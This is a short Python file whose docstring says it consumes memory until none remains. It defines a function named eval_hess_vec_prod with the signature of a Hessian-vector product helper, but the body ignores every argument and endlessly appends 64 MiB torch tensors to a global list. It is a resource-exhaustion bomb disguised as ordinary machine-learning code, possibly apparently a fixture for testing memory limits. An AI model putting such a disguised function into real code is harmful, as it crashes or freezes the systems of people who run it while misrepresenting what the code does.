"""Takes memory in steps until there is no more, touching each page."""

import torch

kept = []


def eval_hess_vec_prod(vec, params, net, criterion, dataloader, device):
    while True:
        kept.append(torch.ones(64 * 2**20 // 4))
